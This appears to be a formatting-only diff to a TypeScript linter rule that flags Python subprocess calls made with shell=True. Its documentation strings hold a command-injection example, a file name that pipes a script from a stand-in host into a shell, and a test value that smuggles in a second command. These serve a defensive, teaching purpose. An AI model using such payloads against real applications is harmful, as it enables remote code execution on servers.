@@ -5,7 +5,11 @@ import type { CallInfo } from '../../src/analysis/python/call-name.js';
 import { pyStringLiteral, removeArgument, replaceNode, splitPlainCommand } from '../../src/analysis/python/fixes.js';
 
 const SUBPROCESS_FNS = [
-  'subprocess.run', 'subprocess.call', 'subprocess.check_call', 'subprocess.check_output', 'subprocess.Popen',
+  'subprocess.run',
+  'subprocess.call',
+  'subprocess.check_call',
+  'subprocess.check_output',
+  'subprocess.Popen',
 ];
 
 export default defineRule({
@@ -28,9 +32,12 @@ export default defineRule({
     },
     docs: {
       whatItDoes: 'Flags `subprocess` calls whose `shell` argument is true.',
-      whyBad: 'With `shell=True` the command string is parsed by `/bin/sh`, so quotes, `;`, `|`, `$()` and backticks in any interpolated value run as commands.',
-      businessImpact: 'Remote code execution on the server: data theft, tampering and lateral movement with the privileges of the process.',
-      attackScenario: 'A user uploads a file named `x; curl evil.sh | sh`; the app runs `subprocess.run(f"convert {name} out.png", shell=True)` and the attacker\'s script runs on the server.',
+      whyBad:
+        'With `shell=True` the command string is parsed by `/bin/sh`, so quotes, `;`, `|`, `$()` and backticks in any interpolated value run as commands.',
+      businessImpact:
+        'Remote code execution on the server: data theft, tampering and lateral movement with the privileges of the process.',
+      attackScenario:
+        'A user uploads a file named `x; curl evil.sh | sh`; the app runs `subprocess.run(f"convert {name} out.png", shell=True)` and the attacker\'s script runs on the server.',
       example: 'subprocess.run(f"tar xf {name}", shell=True)',
       useInstead: 'subprocess.run(["tar", "xf", name], check=True)',
       testing: 'Call the code path with a value containing `; touch /tmp/pwned` and assert the file is not created.',
